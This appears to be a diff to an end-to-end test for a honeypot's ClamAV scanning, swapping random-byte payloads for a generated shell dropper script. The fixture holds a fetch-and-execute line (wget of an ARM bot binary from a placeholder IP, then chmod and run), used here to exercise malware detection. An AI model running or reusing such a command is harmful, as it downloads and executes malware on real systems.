@@ -26,7 +26,12 @@ interface Record_ {
   error?: { code: string; message: string };
 }
 
-const malware = randomBytes(4096);
+/** A dropper script as b64-decode hands it on (text decodes whole); the random line makes it this test's own. */
+const script = (tag: string): Buffer =>
+  Buffer.from(
+    `#!/bin/sh\n# ${tag} ${randomBytes(24).toString('hex')}\ncd /tmp; wget http://192.0.2.7/bot.arm7; chmod +x bot.arm7; ./bot.arm7\n`,
+  );
+const malware = script('known');
 const marker = `HONEYTRAP-CLAMAV-E2E-${randomBytes(6).toString('hex')}`;
 
 let clamd: Clamd;
@@ -145,7 +150,7 @@ describe('clamav in a daemon, with a real clamd', () => {
   }, 40_000);
 
   test('a payload clamd does not know: the scan is recorded as clean', async () => {
-    const other = randomBytes(4096);
+    const other = script('unknown');
     const id = await attack(dropper(other));
     const sha = await decodedSha(id);
     const r = await clamavRecord(id, (k) => k === `clamav@${sha.slice(0, 12)}`);
